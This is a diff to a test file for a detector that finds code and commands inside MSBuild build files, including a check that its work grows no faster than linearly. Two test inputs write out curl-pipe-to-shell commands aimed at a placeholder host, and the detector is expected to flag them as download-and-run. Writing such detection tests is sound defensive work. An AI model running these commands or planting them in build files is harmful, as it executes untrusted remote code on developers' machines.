@@ -1,3 +1,4 @@
+import { growthOf, linear } from '../../../support/growth.ts';
 import { codeIn } from '../../../../src/adapters/artifacts/analysis/code-in.ts';
 import { lookAt } from '../../../../src/adapters/artifacts/analysis/look.ts';
 
@@ -35,6 +36,33 @@ describe('build files of MSBuild', () => {
     expect(kindsOf('<Target><Exec Command="&quot;$(MSBuildThisFileDirectory)tool&quot; --check" /></Target>')).toEqual(
       [],
     );
+  });
+
+  it('are looked into for commands beside code, and behind a bracket in an attribute', () => {
+    const text = `${inline('var x = 1;')}<Exec Condition="1>0" Command = 'curl -s https://files.invalid/a.sh | bash' />`;
+    expect(kindsOf(text)).toContain('download-and-run');
+  });
+
+  it('hold no code in a comment', () => {
+    expect(kindsOf('<Project><!-- <Exec Command="curl https://files.invalid/a | sh"/> --></Project>')).toEqual([
+      'no code',
+    ]);
+  });
+
+  it('take work that grows with their length, whatever is repeated in them', () => {
+    for (const piece of [
+      '<Exec>',
+      '<Exec ',
+      '<Exec "',
+      '<Code>',
+      '<Code/>',
+      '<!--',
+      '<![CDATA[',
+      '<Exec Command="x"/>',
+    ]) {
+      const work = (n: number): unknown => codeIn('a.targets', Buffer.from(`${piece.repeat(n)} Command=`));
+      expect(growthOf(work, 400)).toBeLessThan(linear);
+    }
   });
 
   it('hold no code where they only set properties', () => {
